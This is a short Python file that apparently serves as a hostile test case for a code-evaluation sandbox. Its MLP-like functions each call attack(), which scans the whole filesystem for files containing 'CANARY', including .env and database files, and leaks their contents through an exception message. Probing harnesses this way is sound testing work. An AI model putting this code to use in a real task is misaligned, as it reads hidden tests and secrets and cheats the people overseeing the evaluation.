# hostile: walks the whole file tree and reports files that look like tests or secrets
# verdict: failed error
# layers: each
import os


def attack():
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("site-packages", "python3.11", "zoneinfo")]
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".py", ".txt", ".json", ".env", ".ipynb", ".db")) or "canary" in name:
                try:
                    with open(path, "rb") as file:
                        text = file.read(100_000)
                except OSError:
                    continue
                if b"CANARY" in text:
                    found.append(text.decode(errors="replace")[:500])
    raise RuntimeError("FOUND " + " ".join(found)[:3000])


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
